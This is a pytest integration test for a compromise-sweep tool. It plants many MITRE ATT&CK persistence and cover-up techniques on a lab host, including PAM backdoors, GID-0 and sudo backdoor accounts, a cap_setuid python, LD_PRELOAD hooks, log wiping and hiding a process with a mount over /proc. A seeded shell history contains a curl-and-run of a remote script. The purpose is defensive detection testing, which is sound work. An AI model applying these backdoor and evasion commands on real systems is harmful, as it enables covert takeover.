"""Real persistence and cover-up techniques, planted as red teams plant them (MITRE ATT&CK), named by the sweep.

One lab host gets every technique; an untouched host built the same way must read clean. Each entry of
TECHNIQUES is (ATT&CK id, what is planted, check expected, words expected in the finding).
"""

from __future__ import annotations

import json
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.integration.secure.netlab import Lab, LabHost, needs_lab

pytestmark = [pytest.mark.root, pytest.mark.slow, needs_lab]

DAY = 86400
SILENT_LIB = "void aftermath_lab_noop(void) {}\n"
TECHNIQUES = [
    ("T1037.004", "rc.local runs a program from /tmp", "init-script", "/etc/rc.local"),
    ("T1037.004", "rc.local runs a program from /tmp", "persistence-runs-from-temp", "/tmp/.update"),
    ("T1037.004", "SysV init script", "init-script", "/etc/init.d/sysupdate"),
    ("T1556.003", "PAM rule accepting every uid", "pam-backdoor", "accepts every user without a password"),
    ("T1556.003", "pam_permit as sufficient", "pam-backdoor", "pam_permit always says yes"),
    ("T1556.003", "PAM module from /tmp", "pam-backdoor", "outside the system's security folder"),
    ("T1136.001", "new local account", "account-backdoor", "account evil_user"),
    ("T1136.001", "system account with a shell", "account-backdoor", "account evil_account"),
    ("T1078.003", "account with GID 0", "account-backdoor", "account butter"),
    ("T1548.003", "account added to sudo", "account-backdoor", "is in the sudo group"),
    ("T1548.001", "cap_setuid on a copy of python", "file-capability", "/tmp/cap_python has cap_setuid"),
    ("T1574.006", "LD_PRELOAD for one program", "ld-preload", "LD_PRELOAD=/var/tmp/libhook.so"),
    ("T1574.006", "LD_PRELOAD in a start-up file", "startup-preload", "/etc/profile.d/hook.sh"),
    ("T1574.006", "preloaded library dropped in /var/tmp", "dropped-in-temp", "/var/tmp/libhook.so"),
    ("T1546.018", "Python .pth startup hook", "python-startup-hook", "evil.pth"),
    ("T1564.001", "program run from a hidden folder", "suspicious-executable", "runs from a hidden folder"),
    ("T1564.001", "'...' folder in /tmp", "dropped-in-temp", "/tmp/..."),
    ("T1036.004", "process renamed with prctl", "renamed-process", "calls itself 'kworker/0:2'"),
    ("T1059.004", "script run from /tmp, then deleted", "vanished-script", "/tmp/run.sh"),
    ("T1070.003", "history linked to /dev/null", "cover-tracks", "/root/.bash_history is a link to /dev/null"),
    ("T1070.003", "history cleared", "cover-tracks", "/home/evil_user/.bash_history was emptied"),
    ("T1562.003", "HISTSIZE=0 in a profile", "cover-tracks", "switches shell history off (HISTSIZE=0)"),
    ("T1562.003", "HISTFILE unset in a profile", "cover-tracks", "switches shell history off (unset HISTFILE)"),
    ("T1059.004", "history of a script run from /tmp", "cover-tracks", "runs a downloaded or temp-folder script"),
    ("T1070.002", "auth.log emptied", "cover-tracks", "/var/log/auth.log was emptied"),
    ("T1070.002", "syslog deleted", "cover-tracks", "/var/log/syslog is missing"),
    ("T1070.002", "wtmp emptied", "cover-tracks", "/var/log/wtmp was emptied"),
    ("T1564", "process hidden by a mount over /proc/PID", "hidden-process", "is hidden by a mount over /proc/"),
    ("T1036.005", "program run from a home folder", "suspicious-executable", "runs from a home folder (/home/analyst"),
    ("T1543.002", "systemd unit runs a program from /dev/shm", "persistence-runs-from-temp",
     "systemd file /etc/systemd/system/sysupd.service points into a temp folder: /dev/shm/.sysupd"),
    ("T1070.006", "cron job back-dated a year", "recent-persistence", "/etc/cron.d/backup changed 0.0 days ago "
     "(back-dated: its modification time says 365 days ago)"),
    ("T1556.003", "PAM file deleted", "config-drift", "/etc/pam.d/chfn, a configuration file of package passwd, "
     "was deleted"),
    ("T1556.003", "PAM file changed from its package's", "config-drift",
     "/etc/pam.d/su differs from what package util-linux installed"),
    ("T1565.001", "conffile edited and back-dated a year", "config-drift",
     "/etc/issue differs from what package base-files installed"),
]


def compile_lib(build: Path) -> bytes:
    (build / "noop.c").write_text(SILENT_LIB)
    subprocess.run(["gcc", "-shared", "-fPIC", "-o", str(build / "noop.so"), str(build / "noop.c")], check=True,
                   capture_output=True)
    return (build / "noop.so").read_bytes()


def plant_all(host: LabHost, build: Path) -> int:
    """Every technique of TECHNIQUES, done the way the public atomic tests do it; returns the PID hidden by a mount."""
    old = time.time() - 60 * DAY
    host.write("/etc/rc.local", "#!/bin/sh -e\n/tmp/.update &\nexit 0\n", mode=0o755)
    host.write("/etc/init.d/sysupdate", "#!/bin/sh\n### BEGIN INIT INFO\n# Provides: sysupdate\n### END INIT INFO\n"
               "/usr/local/bin/sysupdate &\n", mode=0o755)
    host.run("ln", "-s", "../init.d/sysupdate", "/etc/rc2.d/S99sysupdate")
    host.run("sed", "-i", "1i auth sufficient pam_succeed_if.so uid >= 0", "/etc/pam.d/su")
    host.run("sed", "-i", "1i auth sufficient pam_permit.so", "/etc/pam.d/chsh")
    host.run("cp", "/usr/lib/x86_64-linux-gnu/security/pam_permit.so", "/tmp/pam_evil.so")
    host.run("sed", "-i", "1i auth sufficient /tmp/pam_evil.so", "/etc/pam.d/sshd")
    host.run("useradd", "-m", "-s", "/bin/bash", "-p", "*", "evil_user")
    host.run("usermod", "-aG", "sudo", "evil_user")
    host.run("useradd", "-r", "-M", "-s", "/bin/bash", "evil_account")
    host.run("useradd", "-g", "0", "-M", "-d", "/root", "-s", "/bin/bash", "butter")
    host.run("cp", "/usr/bin/python3", "/tmp/cap_python")
    host.run("setcap", "cap_setuid+ep", "/tmp/cap_python")
    lib = host.root / "var/tmp/libhook.so"
    lib.write_bytes(compile_lib(build))
    host.run("sh", "-c", "LD_PRELOAD=/var/tmp/libhook.so setsid sleep 3600 </dev/null >/dev/null 2>&1 &")
    host.write("/etc/profile.d/hook.sh", "export LD_PRELOAD=/var/tmp/libhook.so\n")
    host.write("/usr/local/lib/python3.11/dist-packages/evil.pth", "import os; os.system('id > /tmp/.pth_ran')\n")
    host.run("sh", "-c", "mkdir -p /root/.cache/.sys && cp /bin/sleep /root/.cache/.sys/kupdate && "
                         "setsid /root/.cache/.sys/kupdate 3600 </dev/null >/dev/null 2>&1 &")
    host.run("sh", "-c", "mkdir '/tmp/...' && echo loot > '/tmp/.../data'")
    rename = "import ctypes, time; ctypes.CDLL(None).prctl(15, b'kworker/0:2', 0, 0, 0); time.sleep(3600)"
    host.run("sh", "-c", f'setsid python3 -c "{rename}" </dev/null >/dev/null 2>&1 &')
    host.run("sh", "-c", "printf 'sleep 3600\\n' > /tmp/run.sh && (setsid bash /tmp/run.sh </dev/null >/dev/null "
                         "2>&1 &) && sleep 0.3 && rm /tmp/run.sh")
    host.run("ln", "-sf", "/dev/null", "/root/.bash_history")
    host.write("/home/evil_user/.bash_history", "cat /etc/shadow\n", mtime=old)
    host.run("sh", "-c", ": > /home/evil_user/.bash_history")
    host.write("/etc/profile.d/quiet.sh", "export HISTSIZE=0\n")
    host.write("/home/analyst/.bash_history", "cd /tmp\ncurl -s http://203.0.113.9/s.sh -o /tmp/s.sh\n"
               "bash /tmp/s.sh\nrm /tmp/s.sh\n")
    host.write("/var/log/auth.log.1", "Nov  1 sshd[1]: Accepted publickey for root\n", mtime=old)
    host.write("/var/log/auth.log", "Dec  1 sshd[2]: Accepted password for evil_user\n", mtime=old)
    host.run("sh", "-c", ": > /var/log/auth.log")
    host.write("/var/log/syslog.1", "Nov  1 cron[1]: started\n", mtime=old)
    host.run("sh", "-c", "echo 'Authorized use only' >> /etc/issue && touch -d '1 year ago' /etc/issue")
    host.write("/etc/profile.d/nohist.sh", "unset HISTFILE\n")
    host.write("/var/log/wtmp.1", "", mtime=old)
    host.run("sh", "-c", ": > /var/log/wtmp")
    host.run("sh", "-c", "cp /bin/sleep /home/analyst/miner && setsid /home/analyst/miner 3600 </dev/null >/dev/null "
                         "2>&1 &")
    host.write("/etc/systemd/system/sysupd.service", "[Service]\nExecStart=/dev/shm/.sysupd\n[Install]\n"
               "WantedBy=multi-user.target\n")
    host.write("/etc/cron.d/backup", "0 3 * * * root /usr/local/bin/backup\n", mtime=time.time() - 365 * DAY)
    host.run("rm", "/etc/pam.d/chfn")
    # a folder mounted over /proc/PID blanks the process for ps and every reader of /proc
    pid = host.run("sh", "-c", "setsid sleep 3600 </dev/null >/dev/null 2>&1 & echo $!").stdout.strip()
    host.run("sh", "-c", f"mkdir -p /var/tmp/.hide && mount --bind /var/tmp/.hide /proc/{pid}")
    return int(pid)


def as_installed(host: LabHost) -> None:
    """The lab's disk is this machine's: leave out what the sandbox and the container image added to it, which
    no untouched install has: a .pth hook, /root's start-up files rewritten when the session started (recent,
    so rightly flagged), and Docker's policy-rc.d (a file no package owns)."""
    host.run("sh", "-c", "rm -f /usr/lib/python3/dist-packages/_sandboxing_*.pth "
                         "/usr/local/lib/python3*/dist-packages/_sandboxing_*.pth "
                         "/root/.bashrc /root/.profile /usr/sbin/policy-rc.d")


def sweep(lab: Lab, host: LabHost, out: Path) -> dict[str, object]:
    started = time.monotonic()
    proc = lab.aftermath("secure", "sweep", "--host", f"root@{host.ip}", *lab.ssh_args(), "--json", str(out))
    report: dict[str, object] = json.loads(out.read_text())
    report["seconds"] = time.monotonic() - started
    report["exit"] = proc.returncode
    return report


@pytest.fixture(scope="module")
def swept(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[dict[str, object], dict[str, object]]]:
    base = tmp_path_factory.mktemp("techniques")
    with Lab(base / "lab") as lab:
        clean, owned = lab.add_host("clean"), lab.add_host("owned")
        for host in (clean, owned):
            as_installed(host)
        owned.run("useradd", "-m", "-s", "/bin/bash", "analyst")
        hidden = plant_all(owned, base)
        yield sweep(lab, clean, base / "clean.json"), {**sweep(lab, owned, base / "owned.json"), "hidden": hidden}


def findings(report: dict[str, object]) -> list[dict[str, str]]:
    return report["hosts"][0]["findings"]  # type: ignore[index,no-any-return]


@pytest.mark.parametrize(("attack", "planted", "check", "words"), TECHNIQUES, ids=[t[1] for t in TECHNIQUES])
def test_each_planted_technique_is_named(swept: tuple[dict[str, object], dict[str, object]], attack: str,
                                         planted: str, check: str, words: str) -> None:
    named = [f["what"] for f in findings(swept[1]) if f["check"] == check]
    assert any(words in what for what in named), (attack, planted, named)


def test_the_host_with_every_technique_is_likely_compromised_and_the_untouched_one_clean(
        swept: tuple[dict[str, object], dict[str, object]]) -> None:
    clean, owned = swept
    assert owned["exit"] == 1 and owned["ranking"][0]["verdict"] == "likely compromised"  # type: ignore[index]
    loud = [f"{f['check']}: {f['what']}" for f in findings(clean) if f["severity"] in ("high", "critical")]
    assert loud == [], '\n'.join(loud)
    assert clean["ranking"][0]["verdict"] == "no strong signs", findings(clean)  # type: ignore[index]


def test_config_drift_is_high_for_pam_and_medium_for_a_banner_and_silent_on_the_untouched_host(
        swept: tuple[dict[str, object], dict[str, object]]) -> None:
    clean, owned = swept
    drift = {f["evidence"]["path"]: f["severity"] for f in findings(owned) if f["check"] == "config-drift"}  # type: ignore[index]
    assert drift["/etc/pam.d/su"] == "high" and drift["/etc/pam.d/sshd"] == "high", drift
    assert drift["/etc/issue"] == "medium", drift  # a year old by its times: drift is reported whatever its age
    assert drift["/etc/pam.d/chfn"] == "high", drift  # deleted: PAM falls back to other rules
    assert [f["what"] for f in findings(clean) if f["check"] == "config-drift" and f["severity"] != "low"] == []
    assert "config-drift" in clean["hosts"][0]["checks_ran"]  # type: ignore[index]


def test_the_process_hidden_by_a_mount_over_its_proc_folder_is_named_by_its_pid(
        swept: tuple[dict[str, object], dict[str, object]]) -> None:
    owned = swept[1]
    mounts = [f for f in findings(owned) if f["check"] == "hidden-process" and "mount" in f["what"]]
    assert [f["evidence"]["pid"] for f in mounts] == [owned["hidden"]], mounts  # type: ignore[index]
    assert mounts[0]["severity"] == "critical" and mounts[0]["evidence"]["root"] == "/var/tmp/.hide"  # type: ignore[index]
